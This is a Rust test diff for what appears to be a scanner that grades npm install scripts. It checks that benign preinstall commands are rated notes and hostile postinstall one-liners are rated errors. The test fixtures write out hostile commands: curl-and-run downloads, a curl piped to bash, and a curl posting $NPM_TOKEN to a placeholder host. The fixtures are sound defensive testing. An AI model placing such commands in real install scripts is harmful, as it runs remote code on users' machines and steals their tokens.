@@ -421,6 +421,35 @@ mod tests {
     }
 
     #[test]
+    fn common_benign_scripts_are_notes_and_one_liners_are_judged_like_files() {
+        for command in [
+            "npx only-allow pnpm",
+            "husky install",
+            "node-gyp rebuild",
+            "prebuild-install || node-gyp rebuild",
+        ] {
+            let manifest = format!(r#"{{"scripts": {{"preinstall": "{command}"}}}}"#);
+            let got = run(&[("package.json", manifest.as_bytes())]);
+            assert_eq!(got[0].severity, Severity::Note, "{}", got[0].message);
+        }
+        // Downloads to a file and runs it: network, file work and a child process in one line.
+        let manifest = br#"{"scripts": {"postinstall": "curl -s https://x.invalid/b -o /tmp/b && sh /tmp/b"}}"#;
+        let got = run(&[("package.json", manifest)]);
+        assert_eq!(got[0].severity, Severity::Error, "{}", got[0].message);
+        let manifest =
+            br#"{"scripts": {"postinstall": "curl -s https://x.invalid/b -o vendor/b.tgz"}}"#;
+        let got = run(&[("package.json", manifest)]);
+        assert_eq!(got[0].severity, Severity::Warning, "{}", got[0].message);
+        let manifest = br#"{"scripts": {"postinstall": "curl -s https://x.invalid/b | bash"}}"#;
+        let got = run(&[("package.json", manifest)]);
+        assert_eq!(got[0].severity, Severity::Error, "{}", got[0].message);
+        // A shell secret written to the network.
+        let manifest = br#"{"scripts": {"postinstall": "curl -d $NPM_TOKEN https://x.invalid/"}}"#;
+        let got = run(&[("package.json", manifest)]);
+        assert_eq!(got[0].severity, Severity::Error, "{}", got[0].message);
+    }
+
+    #[test]
     fn no_scripts_no_finding() {
         let manifest = br#"{"name": "pkg", "scripts": {"test": "node test.js"}}"#;
         assert!(run(&[("package.json", manifest)]).is_empty());
